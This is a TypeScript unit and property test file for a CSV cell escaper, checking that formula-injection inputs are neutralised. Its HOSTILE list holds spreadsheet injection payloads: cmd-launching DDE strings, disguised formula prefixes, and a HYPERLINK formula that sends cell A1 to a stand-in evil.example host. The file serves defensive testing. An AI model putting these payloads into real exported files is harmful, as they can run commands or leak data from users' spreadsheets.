import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvTable } from './csv-cells';

/** Reads one record as RFC 4180 has it. */
function readRecord(line: string): string[] {
  const cells: string[] = [];
  for (const [, quoted, plain] of `${line},`.matchAll(/(?:"((?:[^"]|"")*)"|([^",]*)),/g))
    cells.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
  return cells;
}

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '|calc',
  '%0A=1',
];

describe('csvCell', () => {
  it.each(HOSTILE)('no spreadsheet runs %j', text => {
    const [read = ''] = readRecord(csvCell(text));
    expect(read).toBe(`'${text}`);
  });

  it('leaves words, titles and codes as they are', () => {
    for (const text of ['Glass Harbour', 'instagram-bio', 'Übermut & Co', '東京', 'a=b', 'n-1'])
      expect(csvCell(text)).toBe(text);
    expect(csvCell('She said "hi", twice')).toBe('"She said ""hi"", twice"');
    expect([csvCell(-5), csvCell(0.25), csvCell(null), csvCell(NaN)]).toEqual(['-5', '0.25', '', '']);
  });

  it('whatever is written comes back as one cell, and never as a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1 }), texts => {
        const read = readRecord(texts.map(csvCell).join(','));
        expect(read.map((cell, i) => (cell === texts[i] ? cell : cell.slice(1)))).toEqual(texts);
        for (const cell of read) expect(cell.trimStart()).not.toMatch(/^[=+\-@]/);
      }),
    );
  });
});

it('a table has a header, and an end to every line', () => {
  expect(
    csvTable(
      ['day', 'views'],
      [
        ['2026-12-11', 4],
        ['=x', null],
      ],
    ),
  ).toBe('\uFEFFday,views\r\n2026-12-11,4\r\n"\'=x",\r\n');
});
